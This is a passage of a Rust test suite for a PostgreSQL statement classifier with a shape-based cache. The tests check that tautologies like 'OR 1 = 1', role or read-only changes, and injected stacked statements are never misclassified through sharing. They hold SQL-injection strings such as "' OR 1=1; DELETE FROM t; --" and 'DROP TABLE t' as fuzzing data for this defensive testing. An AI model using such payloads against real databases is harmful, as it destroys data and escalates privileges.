    let b = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 987654");
    assert!(Arc::ptr_eq(&a, &b), "the second text is its shape's entry");
    assert_eq!(c.shapes_cached(), 1);
    // Only the first went into the exact-text cache.
    assert_eq!(c.cached(), 1);

    let w1 = c.classify("INSERT INTO t (a, b, c) VALUES (1, 'x', NULL)");
    let w2 = c.classify("INSERT INTO t (a, b, c) VALUES (-2.5, E'y\\'z', true)");
    assert!(Arc::ptr_eq(&w1, &w2));
    assert_eq!(w2.class, Write);
    assert_eq!(w2.statements[0].tables, vec!["t"]);

    // Same words, another structure: its own entry.
    let d = c.classify("DELETE FROM pgbench_accounts WHERE aid = 2");
    assert_eq!(d.class, Delete);
    let s = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 3 OR true");
    assert!(!Arc::ptr_eq(&a, &s));

    // A parameter where the shape's first text had a constant.
    let p = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = $1");
    assert_eq!(
        *p,
        c.classify_uncached("SELECT abalance FROM pgbench_accounts WHERE aid = $1")
    );

    // Disabled cache: nothing shared either.
    let c = Classifier::with_side_effects(&[], 0);
    let a = c.classify("SELECT 1");
    assert!(!Arc::ptr_eq(&a, &c.classify("SELECT 2")));
    assert_eq!(c.shapes_cached(), 0);
}

/// Pairs of texts of one shape where a constant's value changes what the
/// statement may do. Whichever is classified first, the other must get its
/// own classification.
const VALUE_DECIDES: &[(&str, &str)] = &[
    (
        "DELETE FROM t WHERE id = 5 OR 1 = 2",
        "DELETE FROM t WHERE id = 5 OR 1 = 1",
    ),
    (
        "DELETE FROM t WHERE id = 5 OR (1 = 2)",
        "DELETE FROM t WHERE id = 5 OR (1 = 1)",
    ),
    (
        "UPDATE t SET a = 1 WHERE id = 5 OR 'a' = 'b'",
        "UPDATE t SET a = 1 WHERE id = 5 OR 'a' = 'a'",
    ),
    (
        "DELETE FROM t WHERE id = 5 OR NOT true",
        "DELETE FROM t WHERE id = 5 OR NOT false",
    ),
    (
        "DELETE FROM t WHERE id = 5 OR 'no'::bool",
        "DELETE FROM t WHERE id = 5 OR 'yes'::bool",
    ),
    ("DELETE FROM t WHERE id = 5 OR 'f'", "DELETE FROM t WHERE id = 5 OR 't'"),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 OR 1 = 2 RETURNING *) SELECT * FROM d",
        "WITH d AS (DELETE FROM t WHERE id = 1 OR 1 = 1 RETURNING *) SELECT * FROM d",
    ),
    (
        "PREPARE p AS DELETE FROM t WHERE a = 1 OR 1 = 2",
        "PREPARE p AS DELETE FROM t WHERE a = 1 OR 1 = 1",
    ),
    (
        "EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE a = 1 OR 1 = 2",
        "EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE a = 1 OR 1 = 1",
    ),
    (
        "COPY (DELETE FROM t WHERE a = 1 OR 1 = 2 RETURNING *) TO STDOUT",
        "COPY (DELETE FROM t WHERE a = 1 OR 1 = 1 RETURNING *) TO STDOUT",
    ),
    (
        "SELECT set_config('work_mem', '1MB', false)",
        "SELECT set_config('role', 'postgres', false)",
    ),
    (
        "SELECT set_config('work_mem', '1MB', false)",
        "SELECT set_config('session_authorization', 'postgres', false)",
    ),
    (
        "SELECT set_config('work_mem', '1MB', false)",
        "SELECT set_config('track_functions', 'none', false)",
    ),
    (
        "SELECT set_config('work_mem', '1MB', false)",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
    ),
    (
        "SELECT set_config('client_encoding', 'UTF8', false)",
        "SELECT set_config('client_encoding', 'SJIS', false)",
    ),
    (
        "SELECT * FROM t WHERE a = 1 AND set_config('app.x', '1', true) IS NOT NULL",
        "SELECT * FROM t WHERE a = 1 AND set_config('role', '1', true) IS NOT NULL",
    ),
    ("SET client_encoding = 'UTF8'", "SET client_encoding = 'SJIS'"),
    (
        "SET standard_conforming_strings = on",
        "SET standard_conforming_strings = off",
    ),
    ("SET backslash_quote = off", "SET backslash_quote = on"),
    (
        "SET default_transaction_read_only = on",
        "SET default_transaction_read_only = off",
    ),
    (
        "SET transaction_read_only = 'true'",
        "SET transaction_read_only = 'false'",
    ),
    (
        "SET LOCAL transaction_read_only TO 1",
        "SET LOCAL transaction_read_only TO 0",
    ),
    (
        "SELECT 1; SET client_encoding = 'UTF8'",
        "SELECT 1; SET client_encoding = 'SJIS'",
    ),
];

#[test]
fn a_shape_is_never_shared_where_a_constant_decides() {
    let mut one_shape = 0;
    for &(benign, risky) in VALUE_DECIDES {
        let shape = shape::of(benign);
        assert!(shape.is_some(), "{benign}");
        // Some values are no constants to the normaliser (PREPARE's body,
        // EXPLAIN's options): those pairs differ in shape already.
        if shape == shape::of(risky) {
            one_shape += 1;
        } else {
            eprintln!("two shapes: {benign} / {risky}");
        }
        let alone = classifier().classify_uncached(risky);
        assert_ne!(
            classifier().classify_uncached(benign),
            alone,
            "{benign} / {risky}: the pair must classify differently"
        );
        for (first, second) in [(benign, risky), (risky, benign)] {
            let (got, own) = second_after_first(first, second);
            assert_eq!(got, own, "{second} after {first}");
        }
    }
    assert!(
        one_shape + 2 >= VALUE_DECIDES.len(),
        "only {one_shape} pairs share a shape"
    );
}

/// Constant swaps that keep a text's shape: each corpus text, with one
/// constant changed, must classify as on its own after the original (and
/// the original after it), whatever the classifier shared in between.
#[test]
fn the_corpus_with_its_constants_changed_classifies_as_on_its_own() {
    const SWAPS: &[(&str, &str)] = &[
        ("1", "0"),
        ("0", "1"),
        ("2", "1"),
        ("true", "false"),
        ("false", "true"),
        ("'on'", "'off'"),
        (" on", " off"),
        (" off", " on"),
        ("'t'", "'f'"),
        ("'yes'", "'no'"),
        ("'x'", "'role'"),
        ("'a'", "'b'"),
        ("'UTF8'", "'SJIS'"),
        ("'search_path'", "'role'"),
        ("'work_mem'", "'session_authorization'"),
        ("'5s'", "'0'"),
    ];
    let mut pairs = 0;
    for &(sql, _, _) in CORPUS {
        let Some(shape) = shape::of(sql) else { continue };
        for &(from, to) in SWAPS {
            for (at, _) in sql.match_indices(from) {
                let variant = format!("{}{}{}", &sql[..at], to, &sql[at + from.len()..]);
                if shape::of(&variant).as_deref() != Some(shape.as_str()) {
                    continue;
                }
                pairs += 1;
                for (first, second) in [(sql, variant.as_str()), (variant.as_str(), sql)] {
                    let (got, own) = second_after_first(first, second);
                    assert_eq!(got, own, "{second} after {first}");
                }
            }
        }
    }
    assert!(
        pairs >= 50,
        "only {pairs} same-shape variants: the swaps reach too little of the corpus"
    );
}

/// Near the parse tree's depth limit a `NULL` (or `$n`) leaf parses where
/// a constant with a value does not: a shape first seen with the shallow
/// leaf must not hand its classification to the text that cannot be parsed.
#[test]
fn a_text_too_deep_to_parse_is_unknown_whatever_its_shape_saw() {
    let nest = |leaf: &str, depth: usize| {
        format!(
            "WITH c AS (SELECT {}{}{}) SELECT * FROM c",
            "NULL + (".repeat(depth),
            leaf,
            ")".repeat(depth)
        )
    };
    let mut at_the_limit = 0;
    for depth in 20..40 {
        let (a, b) = (nest("NULL", depth), nest("1", depth));
        assert_eq!(shape::of(&a), shape::of(&b));
        let own = classifier().classify_uncached(&b);
        if own.error.is_some() && classifier().classify_uncached(&a).error.is_none() {
            at_the_limit += 1;
        }
        let (got, own) = second_after_first(&a, &b);
        assert_eq!(got, own, "depth {depth}");
        let (got, own) = second_after_first(&b, &a);
        assert_eq!(got, own, "depth {depth}, reversed");
    }
    assert!(
        at_the_limit >= 1,
        "no depth where the leaf decides: the test tests nothing"
    );
}

#[test]
fn with_values_fills_every_slot() {
    assert_eq!(
        shape::with_values("SELECT $1, $23 FROM t WHERE a = $4"),
        "SELECT '0', '0' FROM t WHERE a = '0'"
    );
    assert_eq!(shape::with_values("SELECT int4$1, $$x$$"), "SELECT int4'0', $$x$$");
    assert_eq!(shape::with_values("SELECT 1"), "SELECT 1");
}

/// A small deterministic generator for the lexed-shape tests (xorshift).
struct Rng(u64);

impl Rng {
    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % n as u64) as usize
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }

    /// A constant of a lexed kind (`s`, `i`, `n`) with a value that tries
    /// to end it early or hide something in it.
    fn constant(&mut self, kind: char) -> String {
        match kind {
            's' => {
                const PIECES: &[&str] = &[
                    "a",
                    "x",
                    "'",
                    "' OR 1=1; DELETE FROM t; --",
                    ";",
                    "--",
                    "/*",
                    "*/",
                    "\n",
                    " ",
                    "ä",
                    "\"",
                    "$$",
                    "$1",
                    "e'",
                    "DROP TABLE t",
                    "1",
                    ")",
                    "';",
                    "U&",
                    "::",
                ];
                let n = self.below(5);
                let body: String = (0..n).map(|_| self.pick(PIECES)).collect();
                format!("'{}'", body.replace('\'', "''"))
            }
            'i' => {
                let v = self.below(i32::MAX as usize);
                match self.below(4) {
                    0 => "0".into(),
                    1 => format!("00{}", v % 1000),
                    2 => "2147483647".into(),
                    _ => v.to_string(),
                }
            }
            _ => match self.below(4) {
                0 => "2147483648".into(),
                1 => format!("{}.{}", self.below(1000), self.below(1000)),
                2 => "99999999999999999999999".into(),
                _ => format!("0.{}", self.below(10)),
            },
        }
    }
}

/// The lexed shape with a new constant of the same kind in every slot.
fn refill(lexed: &lexed_shape::LexedShape, rng: &mut Rng) -> String {
    let kinds: Vec<char> = lexed.key.rsplit('\0').next().unwrap_or("").chars().collect();
    let mut out = String::new();
    let mut rest = lexed.shape.as_str();
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let digits = rest[at + 1..].bytes().take_while(u8::is_ascii_digit).count();
        let n: usize = rest[at + 1..at + 1 + digits].parse().unwrap();
        out.push_str(&rng.constant(kinds[n - 1]));
        rest = &rest[at + 1 + digits..];
    }
    out.push_str(rest);
    out
}

/// The guarantee the lexer rests on: two plain texts with one lexed shape
/// and kinds are normalised by libpg_query alike, so its confirmation for
/// one holds for the other, and a classifier that took the shape from the
/// lexer classifies the second text as it would on its own. Checked on
/// the corpus refilled with hostile constants, and on random plain texts
/// with operators, quotes and words around the constants.
#[test]
fn a_lexed_shape_confirmed_once_holds_for_every_text_with_it() {
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    let mut confirmed = 0;
    let check = |t0: &str, rng: &mut Rng, confirmed: &mut usize| {
        let Some(l0) = lexed_shape::lex(t0) else { return };
        if !l0.key.ends_with(['s', 'i', 'n']) {
            return;
        }
        let agrees = shape::of(t0).as_deref() == Some(l0.shape.as_str());
        for _ in 0..3 {
            let t1 = refill(&l0, rng);
            let l1 = lexed_shape::lex(&t1).unwrap_or_else(|| panic!("{t1:?} is plain"));
            assert_eq!(l1.key, l0.key, "{t1:?}");
            assert_eq!(
                shape::of(&t1).as_deref() == Some(l1.shape.as_str()),
                agrees,
                "libpg_query agrees with the lexer on one of {t0:?} and {t1:?} only"
            );
            if agrees {
                *confirmed += 1;
                let (got, own) = second_after_first(t0, &t1);
                assert_eq!(got, own, "{t1} after {t0}");
            }
        }
    };
    for &(sql, _, _) in CORPUS {
        check(sql, &mut rng, &mut confirmed);
    }
    let from_corpus = confirmed;
    const WORDS: &[&str] = &[
        "a",
        "t.b",
        "\"Q x\"",
        "\"a\"\"b\"",
        "+",
        "-",
        "*",
        "/",
        "%",
        "^",
        "<",
        ">",
        "=",
        "<>",
        "<=",
        ">=",
        "||",
        "::",
        "~",
        "!~",
        "@",
        "#",
        "&",
        "|",
        "(",
        ")",
        ",",
        "AND",
        "OR",
        "NOT",
        "IS",
        "NULL",
        "true",
        "::int",
        "::text",
        "interval",
        "date",
        "FROM t",
        "WHERE",
        ";",
        "DELETE FROM t",
        "LIMIT",
        "[",
        "]",
        "ARRAY",
        "-",
        "AS",
        "x1",
        "CASE WHEN",
        "THEN",
        "ELSE",
        "END",
        "IN",
        "LIKE",
        "#s",
        "#s",
        "#i",
        "#i",
        "#n",
    ];
    const GAPS: &[&str] = &["", " ", " ", "\n", "\t"];
    for _ in 0..4000 {
        let mut t0 = String::from("SELECT ");
        for _ in 0..1 + rng.below(8) {
            let w = rng.pick(WORDS);
            match w.strip_prefix('#') {
                Some(kind) => t0.push_str(&rng.constant(kind.chars().next().unwrap_or('s'))),
                None => t0.push_str(w),
            }
            t0.push_str(rng.pick(GAPS));
        }
        check(&t0, &mut rng, &mut confirmed);
    }
    eprintln!("{from_corpus} confirmed from the corpus, {confirmed} in all");
    assert!(
        from_corpus >= 60 && confirmed >= from_corpus + 300,
        "only {from_corpus} confirmed from the corpus, {confirmed} in all: the test tests too little"
    );
}

#[test]
fn plain_texts_that_differ_in_constants_cost_one_parse_for_their_shape() {
    let c = classifier();
    for i in 0..100 {
        let a = c.classify(&format!("SELECT abalance FROM pgbench_accounts WHERE aid = {i}"));
        assert_eq!(a.class, Read);
    }
    assert_eq!(c.shape_parses(), 1, "the lexer gave the other 99 shapes");
    // Behind a comment the texts are not plain: each is normalised.
    for i in 0..10 {
        let _ = c.classify(&format!(
            "/* x */ SELECT abalance FROM pgbench_accounts WHERE aid = {i}"
        ));
    }
    assert_eq!(c.shape_parses(), 11);
    // A string that holds a whole statement is one constant, and a write
    // with a lexed shape of its own is classified as a write.
    let _ = c.classify("SELECT * FROM t WHERE a = 'x'");
    let _ = c.classify("SELECT * FROM t WHERE a = 'y'");
    let r = c.classify("SELECT * FROM t WHERE a = 'x'' OR 1=1; DELETE FROM t; --'");
    assert_eq!(r.class, Read);
    assert_eq!(r.statements.len(), 1);
    let d = c.classify("SELECT * FROM t WHERE a = 'x'; DELETE FROM t; --'");
    assert_eq!(d.class, Delete, "not plain (a comment hides the quote): {d:?}");
    let d = c.classify("SELECT * FROM t WHERE a = 'x'; DELETE FROM t WHERE 'a' = 'a'");
    assert_eq!(d.class, Delete);
    // Escapes are not plain: read by libpg_query, whatever came before.
    let _ = c.classify("SELECT * FROM t WHERE a = 'z'");
    let e = c.classify("SELECT * FROM t WHERE a = E'\\'; DELETE FROM t; SELECT '");
    assert_eq!(e.class, Read, "one escaped string");
    let e = c.classify("SELECT * FROM t WHERE a = '\\'; DELETE FROM t; SELECT 'x'");
    assert_eq!(e.class, Delete, "a backslash ends nothing in a plain string");
}
